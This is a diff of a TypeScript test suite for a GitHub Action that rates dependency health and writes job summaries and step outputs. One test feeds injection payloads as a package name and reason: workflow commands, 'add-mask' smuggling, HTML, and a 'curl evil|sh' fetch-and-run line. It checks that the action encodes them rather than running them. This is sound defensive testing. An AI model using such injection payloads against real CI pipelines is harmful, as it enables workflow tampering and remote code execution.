@@ -11,6 +11,7 @@ import { makeFolder } from '../../support/folders.ts';
 import { listen, listenWith } from '../../support/listening.ts';
 
 interface Action {
+  readonly outputs: Readonly<Record<string, { readonly value: string }>>;
   readonly inputs: Readonly<Record<string, { readonly default?: string }>>;
   readonly runs: { readonly steps: readonly { readonly run?: string }[] };
 }
@@ -35,31 +36,49 @@ async function runStep(inputs: Inputs) {
   const folder = makeFolder();
   writeFileSync(join(folder, 'package.json'), content);
   const summary = join(folder, 'summary.md');
+  const outputs = join(folder, 'outputs');
+  for (const path of [summary, outputs]) writeFileSync(path, '');
   const env = {
     PATH: [dirname(process.execPath), process.env.PATH].join(delimiter),
     GITHUB_ACTION_PATH: checkout,
     GITHUB_STEP_SUMMARY: summary,
+    GITHUB_OUTPUT: outputs,
     DAYBREAK_URL: server,
     DAYBREAK_API_KEY: keyOf('free'),
     FILES: files,
     FAIL_ON: failOn,
   };
-  const child = spawn('bash', ['-c', script], { cwd: folder, env, stdio: 'pipe' });
+  const child = spawn('bash', ['-eo', 'pipefail', '-c', script], {
+    cwd: folder,
+    env,
+    stdio: 'pipe',
+  });
   let output = '';
   for (const stream of [child.stdout, child.stderr])
     stream.on('data', (chunk) => (output += chunk));
   const code = await new Promise<number | null>((done) => child.once('close', done));
-  return { code, output, summary: readFileSync(summary, 'utf8') };
+  const [text, set] = [summary, outputs].map((path) => readFileSync(path, 'utf8'));
+  return { code, output, summary: text ?? '', outputs: set ?? '' };
 }
 
 it('the action fails the job if a dependency is at risk, and lists it in the job summary', async () => {
   const failOn = action.inputs['fail-on']?.default ?? '';
-  const { code, output, summary } = await runStep({ failOn });
+  const { code, output, summary, outputs } = await runStep({ failOn });
   expect(output).toContain('1 of 1 dependencies are rated: 1 to act on');
   expect(code).toBe(exitCodes.findings[0]);
-  expect(summary).toContain('ember-oldtimer');
-  expect(summary).toContain('dormant');
-  expect(summary).toContain('1 of 1 dependencies are rated: 1 to act on');
+  const rows = summary.split('\n').filter((line) => line.startsWith('| '));
+  expect(rows.map((row) => row.split(' | ').length)).toEqual([8, 8, 8]);
+  expect(rows[2]).toMatch(/^\| &#64;ember\/old \| act \| ember-oldtimer \|.*dormant/);
+  expect(summary).toContain('1 of 1 dependencies are rated&#58; 1 to act on');
+  expect(outputs).toBe(
+    'act-count=1\nwatch-count=0\nfine-count=0\nunknown-count=0\nending-models=0\n',
+  );
+  const declared = Object.values(action.outputs).map(({ value }) => value);
+  expect(declared).toEqual(
+    outputs.match(/^[\w-]+/gm)?.map((name) => `\${{ steps.check.outputs.${name} }}`),
+  );
+  const [, after = ''] = output.split(/^::[0-9a-f-]{36}::$/m);
+  expect(after.trim()).toMatch(/^::warning title=@ember\/old::The project is dormant[^\n]*$/);
 });
 
 it('the action passes if no dependency reaches the level, or if no level is set', async () => {
@@ -85,12 +104,20 @@ it.each(['--url=http:HOST/package.json', '--help', '-h', '--json'])(
 
 it('the action does not run workflow commands in names of packages', async () => {
   const name = '::error file=src/auth.ts,line=1::Run: curl evil|sh';
-  const row = { name, project: { id: 'a' }, health: 1, label: 'fair', alternatives: [] };
+  const row = {
+    name,
+    verdict: 'act',
+    reason: '%0A::add-mask::a\n::add-mask::b | <b>',
+    project: { id: 'a' },
+    health: 1,
+    label: 'fair',
+    alternatives: [],
+  };
   const verdicts = { act: 0, watch: 0, fine: 1, unknown: 0 };
   const summary = { checked: '\n::add-mask::e', skipped: 0, verdicts };
   const data = { dependencies: [row], summary, skipped: [] };
   const server = await listenWith(() => Response.json({ ok: true, data, meta: {} }));
-  const { output } = await runStep({ failOn: '', server });
+  const { output, summary: page } = await runStep({ failOn: '', server });
   // As the runner reads it: from `stop-commands` to its token, no line is a command.
   const token = /^::stop-commands::([0-9a-f-]{36})$/m.exec(output)?.[1];
   const [before = '', inside = '', after] = output.split(
@@ -98,5 +125,14 @@ it('the action does not run workflow commands in names of packages', async () =>
   );
   expect(inside).toMatch(/^::error /m);
   expect(inside).toMatch(/^::add-mask/m);
-  expect(`${before}${after}`).not.toMatch(/::|##\[/);
+  expect(before).not.toMatch(/::|##\[/);
+  // Exactly one command follows, with the name and reason encoded on its line.
+  expect(after?.trim()).toBe(
+    '::warning title=%3A%3Aerror file=src/auth.ts%2Cline=1%3A%3ARun%3A curl evil|sh::' +
+      '%250A::add-mask::a ::add-mask::b | <b>',
+  );
+  expect(page).not.toMatch(/<b>|::/);
+  expect(page).toContain(
+    '| &#58;&#58;error file=src/auth.ts,line=1&#58;&#58;Run&#58; curl evil&#124;sh | act |',
+  );
 });
